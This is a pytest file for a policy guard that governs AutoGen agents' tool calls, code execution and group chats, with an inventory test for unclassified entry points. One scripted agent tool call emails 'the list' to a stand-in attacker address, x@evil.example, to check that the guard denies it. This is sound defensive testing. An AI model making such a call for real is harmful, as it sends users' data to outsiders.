"""Every classic entry point and multi-agent construct either governed or refused: ``run`` with
its internal executor, group patterns with their tool executor, code execution, agents nobody
registered, and an inventory that fails when a release adds an entry point nobody classified."""

from __future__ import annotations

import inspect
import threading
from pathlib import Path
from typing import Any

import pytest

from tether.autogen.classic import CODE_TOOL, register_guard
from tether.core import AuditStore, Guard

from .conftest import POLICY, Tools, assistant, contents, events, executor, say, script, tool_call

autogen = pytest.importorskip("autogen")
VERSION = tuple(int(p) for p in autogen.__version__.split(".")[:2])
needs_ag2 = pytest.mark.skipif(VERSION < (0, 9), reason="pyautogen 0.2 has no run() and no group patterns")


def finish(response: Any, within: float = 60.0) -> None:
    """Consume a ``run`` response's events (AutoGen runs the chat in a thread), bounded in time."""
    done = threading.Event()

    def consume() -> None:
        for event in response.events:
            if type(event).__name__ == "InputRequestEvent":
                event.content.respond("exit")
        done.set()

    threading.Thread(target=consume, daemon=True).start()
    assert done.wait(within), "the run did not finish"


@needs_ag2
def test_run_with_a_message_governs_the_internal_executor(guard: Guard, tools: Tools, store: AuditStore) -> None:
    """ag2's ``run(message=...)`` runs tools in an executor agent it creates in a thread of its own."""
    bot = autogen.ConversableAgent(
        "assistant", llm_config=script_llm(), human_input_mode="NEVER", functions=list(tools.functions.values())
    )
    seen = script(
        bot,
        tool_call("lookup", {"query": "order 7"}),
        tool_call("send_email", {"to": "x@evil.example", "body": "the list"}),
        tool_call("refund", {"order": "A1", "amount": 9000}),
        say("TERMINATE"),
    )
    register_guard(bot, guard)

    finish(bot.run(message="help the customer", max_turns=4, user_input=False))

    assert tools.ran == [("lookup", {"query": "order 7"})]
    decisions = events(store, "tool.decision")
    assert [(d.agent, d.tool, d.verdict) for d in decisions] == [
        ("assistant", "lookup", "allow"),
        ("assistant", "send_email", "deny"),
        ("assistant", "refund", "deny"),
    ]
    assert len({e.session_id for e in store.events()}) == 1  # one run, one session
    assert all(d.parent_id for d in decisions)  # each linked to the model response that proposed it
    assert "Tether denied the call to 'send_email'" in contents(seen[-1])


@needs_ag2
def test_a_group_pattern_governs_its_tool_executor(guard: Guard, tools: Tools, store: AuditStore) -> None:
    """``initiate_group_chat`` runs every tool in a ``GroupToolExecutor`` it creates."""
    from autogen.agentchat import initiate_group_chat
    from autogen.agentchat.group.patterns import RoundRobinPattern

    bot = autogen.ConversableAgent("assistant", llm_config=script_llm(), functions=[tools.functions["lookup"]])
    researcher = autogen.ConversableAgent(
        "researcher", llm_config=script_llm(), functions=[tools.functions["send_email"]]
    )
    script(bot, tool_call("lookup", {"query": "order 7"}), say("looked it up"), say("TERMINATE"))
    script(researcher, tool_call("send_email", {"to": "bob@acme.example", "body": "hi"}), say("TERMINATE"))
    pattern = RoundRobinPattern(initial_agent=bot, agents=[bot, researcher])
    register_guard(pattern, guard)

    initiate_group_chat(pattern=pattern, messages="help the customer", max_rounds=8)
    initiate_group_chat(pattern=pattern, messages="and again", max_rounds=2)

    assert tools.ran == [("lookup", {"query": "order 7"})]  # the researcher may not email
    decisions = events(store, "tool.decision")
    assert [(d.agent, d.tool, d.verdict) for d in decisions] == [
        ("assistant", "lookup", "allow"),
        ("researcher", "send_email", "deny"),
    ]
    assert decisions[0].details["context"]["executor"] == "_Group_Tool_Executor"
    starts = [e.session_id for e in events(store, "session.start")]
    assert len(starts) == len(set(starts)) == 2  # one session per group chat
    assert decisions[0].session_id == decisions[1].session_id == starts[0]


def test_agents_nobody_registered_are_decided_under_a_fallback_session(
    guard: Guard, tools: Tools, store: AuditStore
) -> None:
    register_guard(assistant("someone-else"), guard)  # a guard exists in this process
    bot, user = assistant(), executor()
    tools.register(bot, user)
    script(bot, tool_call("lookup", {"query": "a"}), say("TERMINATE"))

    user.initiate_chat(bot, message="help", max_turns=3, silent=True)  # neither agent registered

    assert tools.ran == [("lookup", {"query": "a"})]  # the policy grants it to the assistant
    (decision,) = events(store, "tool.decision")
    assert (decision.agent, decision.verdict) == ("assistant", "allow")
    assert decision.details["context"]["attribution"] == "fallback"


def test_a_direct_call_outside_any_chat_is_decided(guard: Guard, tools: Tools, store: AuditStore) -> None:
    user = executor()
    tools.register(assistant(), user)
    register_guard(user, guard)

    ok, result = user.execute_function({"name": "send_email", "arguments": '{"to": "a@b.example", "body": "x"}'})

    assert not ok and "Tether denied the call to 'send_email'" in result["content"]
    assert tools.count("send_email") == 0
    assert [e.verdict for e in events(store, "tool.decision")] == ["deny"]


def code_runner(tmp_path: Path, **config: Any) -> Any:
    return autogen.ConversableAgent(
        "user",
        llm_config=False,
        human_input_mode="NEVER",
        code_execution_config=config or {"work_dir": str(tmp_path), "use_docker": False},
        is_termination_msg=lambda m: "TERMINATE" in str(m.get("content")),
    )


CODE = "```python\nopen('ran.txt', 'w').write('x')\nprint('DONE' + '-' + 'MARK')\n```"


@pytest.mark.parametrize("granted", [False, True])
def test_code_execution_is_decided(store: AuditStore, tmp_path: Path, granted: bool) -> None:
    policy = {**POLICY, "tools": {**POLICY["tools"], CODE_TOOL: {"effects": ["irreversible"]}}}
    policy["agents"] = {**POLICY["agents"], "user": {"purpose": "runs code", "owner": "t@acme.example", "tools": {}}}
    if granted:
        policy["agents"]["user"]["tools"] = {CODE_TOOL: {"when": "args.language == 'python'"}}
    guard = Guard(policy, store=store)
    bot, user = assistant(), code_runner(tmp_path)
    script(bot, say(CODE), say("TERMINATE"))
    register_guard([bot, user], guard)

    history = user.initiate_chat(bot, message="write the file", max_turns=2, silent=True).chat_history

    assert (tmp_path / "ran.txt").exists() is granted
    (decision,) = events(store, "tool.decision")
    assert (decision.agent, decision.tool, decision.verdict) == ("user", CODE_TOOL, "allow" if granted else "deny")
    assert decision.details["args"]["language"] == "python"
    text = "\n".join(str(m.get("content")) for m in history)
    assert ("DONE-MARK" in text) is granted
    assert ("Tether denied the call to 'execute_code'" in text) is not granted


@needs_ag2
def test_a_code_executor_is_decided(guard: Guard, store: AuditStore, tmp_path: Path) -> None:
    from autogen.coding import LocalCommandLineCodeExecutor

    bot = assistant()
    user = code_runner(tmp_path, executor=LocalCommandLineCodeExecutor(work_dir=str(tmp_path)))
    script(bot, say(CODE), say("TERMINATE"))
    register_guard([bot, user], guard)

    user.initiate_chat(bot, message="write the file", max_turns=2, silent=True)

    assert not (tmp_path / "ran.txt").exists()
    assert [(e.tool, e.verdict) for e in events(store, "tool.decision")] == [(CODE_TOOL, "deny")]


def test_the_chats_opening_message_is_trusted_input(guard: Guard, tools: Tools, store: AuditStore) -> None:
    bot, user = assistant(), executor()
    tools.register(bot, user)
    script(bot, say("TERMINATE"))
    register_guard([bot, user], guard)

    user.initiate_chat(bot, message="please write to carol@acme.example", max_turns=1, silent=True)

    (opening,) = events(store, "input")
    assert (opening.agent, opening.details["source"]) == ("user", "user")
    request = events(store, "model.request")[0]
    assert request.parent_id is None and "agent" in request.data  # other agents' turns are not the user's


# -- the inventory -------------------------------------------------------------------------
# Every public method of ConversableAgent, GroupChatManager and GroupChat, and every public
# function of the modules that export entry points, is classified here, whatever its name: a
# release that adds one fails the test until it is classified (and, if it starts a chat, driven
# in test_entry_points_driven.py).

GOVERNED_BY_CHAT = {  # start chats, which reach initiate_chat / a_initiate_chat: driven one by one
    "initiate_chat",
    "a_initiate_chat",
    "initiate_chats",
    "a_initiate_chats",
    "sequential_run",
    "a_sequential_run",
    "run",
    "a_run",
    "run_iter",
    "a_run_iter",
    "initiate_group_chat",
    "a_initiate_group_chat",
    "run_group_chat",
    "a_run_group_chat",
    "run_group_chat_iter",
    "a_run_group_chat_iter",
    "initiate_swarm_chat",
    "a_initiate_swarm_chat",
    "run_swarm",
    "a_run_swarm",
}
BY_HAND = {  # no new chat: governed in the session of the agent's last chat (or the fallback)
    "generate_reply",
    "a_generate_reply",
    "send",
    "a_send",
    "receive",
    "a_receive",
    "resume",
    "a_resume",
    "run_chat",  # GroupChatManager's reply function: a group chat's rounds
    "a_run_chat",
}
WAISTS = {"execute_function", "a_execute_function", "execute_code_blocks"}
STEPS = {  # one step of a reply; what runs or calls a model goes through a waist
    "generate_oai_reply",
    "a_generate_oai_reply",
    "generate_tool_calls_reply",
    "a_generate_tool_calls_reply",
    "generate_function_call_reply",
    "a_generate_function_call_reply",
    "generate_code_execution_reply",
    "check_termination_and_human_reply",
    "a_check_termination_and_human_reply",
    "get_human_input",
    "a_get_human_input",
    "generate_init_message",
    "a_generate_init_message",
    "process_all_messages_before_reply",
    "process_last_received_message",
    "update_agent_state_before_reply",
    "can_execute_function",
    "run_code",  # runs one block for execute_code_blocks, where code is decided
    "run_input_guardrails",  # ag2's own guardrail checks of a message
    "run_output_guardrails",
    # GroupChat: speaker selection (its model calls go through the model call waist)
    "select_speaker",
    "a_select_speaker",
    "auto_select_speaker",
    "a_auto_select_speaker",
    "manual_select_speaker",
    "random_select_speaker",
    "next_agent",
    "select_speaker_msg",
    "select_speaker_prompt",
    "introductions_msg",
}
SETUP = {  # configure agents, tools and patterns; start nothing
    "register_for_execution",
    "register_for_llm",
    "register_function",
    "register_handoff",
    "register_handoffs",
    "register_hand_off",
    "register_hook",
    "register_input_guardrail",
    "register_input_guardrails",
    "register_output_guardrail",
    "register_output_guardrails",
    "register_model_client",
    "register_nested_chats",
    "register_reply",
    "replace_reply_func",
    "remove_tool_for_llm",
    "set_ui_tools",
    "unset_ui_tools",
    "update_function_signature",
    "update_tool_signature",
    "update_max_consecutive_auto_reply",
    "update_system_message",
    "max_consecutive_auto_reply",
    "stop_reply_at_receive",
    "reset",
    "reset_consecutive_auto_reply_counter",
    "clear_history",
    "clear_agents_history",
    "append",
    "create_swarm_transition",
    "make_remove_function",
    "consolidate_chat_info",  # fills in a chat queue's entries
    "config_list_from_dotenv",
    "config_list_from_json",
    "config_list_from_models",
    "config_list_gpt4_gpt35",
    "config_list_openai_aoai",
    "filter_config",
    "get_config_list",
}
READ_ONLY = {  # read state
    "last_message",
    "chat_messages_for_summary",
    "get_actual_usage",
    "get_total_usage",
    "get_chat_results",
    "print_usage_summary",
    "gather_usage_summary",
    "agent_by_name",
    "nested_agents",
    "messages_from_string",
    "messages_to_string",
    "cleanup_temp_user_messages",
    "content_str",
}
KINDS = {
    "governed by chat": GOVERNED_BY_CHAT,
    "by hand": BY_HAND,
    "waist": WAISTS,
    "step": STEPS,
    "setup": SETUP,
    "read-only": READ_ONLY,
}
ENTRY_MODULES = (  # modules whose functions users call to run agents
    "autogen",
    "autogen.agentchat",
    "autogen.agentchat.chat",
    "autogen.agentchat.group.multi_agent_chat",
    "autogen.agentchat.contrib.swarm_agent",
)


def public_api() -> dict[str, set[str]]:
    """Where each public method or function of the installed version is found."""
    import importlib

    found: dict[str, set[str]] = {}
    for cls in (autogen.ConversableAgent, autogen.GroupChatManager, autogen.GroupChat):
        for name, member in inspect.getmembers(cls):
            if not name.startswith("_") and callable(member) and not inspect.isclass(member):
                found.setdefault(name, set()).add(cls.__name__)
    for path in ENTRY_MODULES:
        try:
            module = importlib.import_module(path)
        except ImportError:
            continue
        for name, member in inspect.getmembers(module, inspect.isfunction):
            if not name.startswith("_") and member.__module__.startswith("autogen."):
                found.setdefault(name, set()).add(path)
    return found


FRAMEWORK_HELPERS = {"export_module", "Depends", "inject_params", "on"}  # ag2's decorators and DI


def test_every_public_method_and_function_is_classified() -> None:
    found = public_api()
    unclassified = set(found) - set().union(*KINDS.values()) - FRAMEWORK_HELPERS
    assert not unclassified, "classify these in the inventory and the docs: " + ", ".join(
        f"{name} ({', '.join(sorted(found[name]))})" for name in sorted(unclassified)
    )
    twice = [n for n in found if sum(n in kind for kind in KINDS.values()) > 1]
    assert not twice, f"classified twice: {twice}"
    for name in WAISTS:
        assert getattr(getattr(autogen.ConversableAgent, name), "__wrapped__", None) is not None or not _installed()


def test_every_entry_point_of_this_version_is_driven() -> None:
    from .test_entry_points_driven import DRIVERS, GROUP_DRIVERS

    present = set(public_api()) & GOVERNED_BY_CHAT
    assert present >= {"initiate_chat", "a_initiate_chat", "initiate_chats", "a_initiate_chats"}
    undriven = present - set(DRIVERS) - set(GROUP_DRIVERS)
    assert not undriven, f"drive these entry points in test_entry_points_driven.py: {sorted(undriven)}"


@pytest.mark.parametrize(
    "name", ["a_start_chat", "a_run_chat_stream", "initiate_team_chat", "run_swarm_stream", "resume_swarm", "stream"]
)
def test_a_new_public_method_fails_the_inventory(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever its prefix: a method nobody classified is reported."""
    monkeypatch.setattr(autogen.ConversableAgent, name, lambda self: None, raising=False)
    with pytest.raises(AssertionError, match=name):
        test_every_public_method_and_function_is_classified()


def test_a_new_group_chat_function_fails_the_inventory(monkeypatch: pytest.MonkeyPatch) -> None:
    from autogen import agentchat

    def a_run_team(pattern: Any) -> None: ...

    a_run_team.__module__ = "autogen.agentchat.team"
    monkeypatch.setattr(agentchat, "a_run_team", a_run_team, raising=False)
    with pytest.raises(AssertionError, match="a_run_team"):
        test_every_public_method_and_function_is_classified()


def _installed() -> bool:
    from tether.autogen import classic

    return classic._installed


def script_llm() -> dict[str, Any]:
    from .conftest import LLM

    return LLM
